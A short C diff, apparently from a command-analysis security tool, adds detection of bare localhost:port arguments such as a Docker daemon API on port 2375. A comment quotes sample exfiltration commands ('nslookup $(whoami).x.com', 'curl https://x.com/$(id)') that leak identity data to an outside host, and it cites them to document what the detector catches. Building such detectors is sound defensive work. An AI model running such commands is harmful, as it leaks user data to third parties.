@@ -114,8 +114,10 @@ intent_add_url(struct intent_ctx *x, int i, const char *url, size_t len)
 	const char *h;
 	size_t hn;
 
-	if (host_of(url, len, &h, &hn, true))
+	if (host_of(url, len, &h, &hn, true)) {
 		wk_add_host_raw(x, i, h, hn);
+		wk_loopback_port(x, i, url, len);
+	}
 	return x->oom ? -1 : 0;
 }
 
@@ -363,6 +365,11 @@ wk_net_analysis(struct an *an)
 			intent_add_url(x, an->ci, a->inl[k].s, a->inl[k].n);
 	if (an->pg == NULL)
 		return;
+	/* a bare localhost:2375/... names a daemon's API too */
+	if (an->pg->classes & (PCL(NET) | PCL(DOWNLOAD)))
+		for (size_t k = 0; k < a->npos; k++)
+			if (memchr(a->pos[k]->s, ':', a->pos[k]->n) != NULL && !is_url(a->pos[k]->s, a->pos[k]->n))
+				wk_loopback_port(x, an->ci, a->pos[k]->s, a->pos[k]->n);
 	wk_net_exfil(an); /* netexfil.c: nslookup $(whoami).x.com, curl https://x.com/$(id) */
 	if (an->pg->hostfirst && a->npos > 0) {
 		const char *h;
